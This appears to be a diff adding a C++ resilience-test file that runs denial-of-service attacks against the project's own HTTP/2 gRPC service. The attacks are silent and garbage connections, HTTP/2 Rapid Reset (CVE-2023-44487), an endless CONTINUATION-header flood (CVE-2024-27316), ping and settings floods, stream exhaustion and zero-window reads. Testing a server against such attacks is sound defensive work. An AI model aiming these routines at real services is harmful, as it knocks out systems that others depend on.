@@ -1,0 +1,141 @@
+#include <deque>
+#include <memory>
+
+#include "absl/strings/str_cat.h"
+#include "fleetperf/v1/query.pb.h"
+#include "tests/hostile/attacks.h"
+#include "tests/hostile/http2_connection.h"
+#include "tests/support/raw_connection.h"
+
+namespace fleetperf::testing {
+namespace {
+
+using Stop = std::function<bool()>;
+
+constexpr char kCollect[] = "/fleetperf.v1.CollectionService/Collect";
+constexpr char kQueryRange[] = "/fleetperf.v1.QueryService/QueryRange";
+
+// Sends what `next` returns on one connection after the other.
+void Flood(const Target& target, const Stop& stop,
+           const std::function<std::string()>& next) {
+  while (!stop()) {
+    Http2Connection connection(target.port, target.reader);
+    while (!stop() && connection.Send(next())) {
+    }
+  }
+}
+
+// Connections that never begin their handshake.
+void KeepSilent(const Target& target, const Stop& stop) {
+  constexpr size_t kOpen = 2000;
+  std::deque<RawConnection> open;
+  while (!stop()) {
+    open.emplace_back(target.port, "127.0.0.2");
+    if (open.size() > kOpen) open.pop_front();
+  }
+}
+
+// Bytes that are no handshake.
+void SendGarbage(const Target& target, const Stop& stop) {
+  const std::string garbage(16 << 10, '\x16');
+  while (!stop()) {
+    const RawConnection connection(target.port, "127.0.0.2");
+    send(connection.fd(), garbage.data(), garbage.size(), MSG_NOSIGNAL);
+  }
+}
+
+// CVE-2023-44487: streams that are reset as soon as they begin.
+void ResetRapidly(const Target& target, const Stop& stop) {
+  uint32_t stream = 1;
+  Flood(target, stop, [&] {
+    std::string bytes;
+    for (int i = 0; i < 50; ++i, stream += 2) {
+      absl::StrAppend(
+          &bytes, CallFrame(stream, kQueryRange),
+          Frame(kResetFrame, 0, stream, std::string("\0\0\0\x8", 4)));
+    }
+    return bytes;
+  });
+}
+
+// CVE-2024-27316: headers that never end.
+void ContinueHeaders(const Target& target, const Stop& stop) {
+  while (!stop()) {
+    Http2Connection connection(target.port, target.reader);
+    connection.Send(Frame(kHeadersFrame, 0, 1, ""));
+    // Literal fields, as a block of headers has them.
+    std::string fields;
+    while (fields.size() < 15'000) {
+      absl::StrAppend(&fields, std::string("\0\1a\x7e", 4),
+                      std::string(0x7e, 'b'));
+    }
+    while (!stop() &&
+           connection.Send(Frame(kContinuationFrame, 0, 1, fields))) {
+    }
+  }
+}
+
+void Ping(const Target& target, const Stop& stop) {
+  std::string pings;
+  for (int i = 0; i < 100; ++i) {
+    pings += Frame(kPingFrame, 0, 0, "12345678");
+  }
+  Flood(target, stop, [&] { return pings; });
+}
+
+void ChangeSettings(const Target& target, const Stop& stop) {
+  std::string changes;
+  for (int i = 0; i < 100; ++i) changes += Frame(kSettingsFrame, 0, 0, "");
+  Flood(target, stop, [&] { return changes; });
+}
+
+// Streams without Hello, as many as there may be.
+void OpenSilentStreams(const Target& target, const Stop& stop) {
+  constexpr int kConnections = 20;
+  constexpr uint32_t kStreams = 128;
+  std::vector<std::unique_ptr<Http2Connection>> connections;
+  while (!stop()) {
+    std::erase_if(connections,
+                  [](auto& one) { return !one->ReadAndAcknowledge(); });
+    if (connections.size() == kConnections) continue;
+    auto connection =
+        std::make_unique<Http2Connection>(target.port, target.agent);
+    for (uint32_t i = 0; i < kStreams; ++i) {
+      connection->Send(CallFrame(2 * i + 1, kCollect));
+    }
+    connections.push_back(std::move(connection));
+  }
+}
+
+// Queries whose answers are never read, on a connection that answers pings.
+void ReadNothing(const Target& target, const Stop& stop) {
+  // SETTINGS_INITIAL_WINDOW_SIZE is 0.
+  const std::string settings("\0\4\0\0\0\0", 6);
+  v1::QueryRangeRequest request;
+  request.add_paths("\\Numbers\\Number");
+  const std::string message = request.SerializeAsString();
+  while (!stop()) {
+    Http2Connection connection(target.port, target.reader, settings);
+    for (uint32_t i = 0; i < 64; ++i) {
+      connection.Send(CallFrame(2 * i + 1, kQueryRange) +
+                      MessageFrame(2 * i + 1, message));
+    }
+    while (!stop() && connection.ReadAndAcknowledge()) {
+    }
+  }
+}
+
+}  // namespace
+
+std::vector<Attack> ConnectionAttacks() {
+  return {{"silent connections", KeepSilent},
+          {"garbage for a handshake", SendGarbage},
+          {"rapid reset", ResetRapidly},
+          {"endless headers", ContinueHeaders},
+          {"pings", Ping},
+          {"settings", ChangeSettings},
+          {"silent streams", OpenSilentStreams},
+          {"answers not read", ReadNothing}};
+}
+
+}  // namespace fleetperf::testing
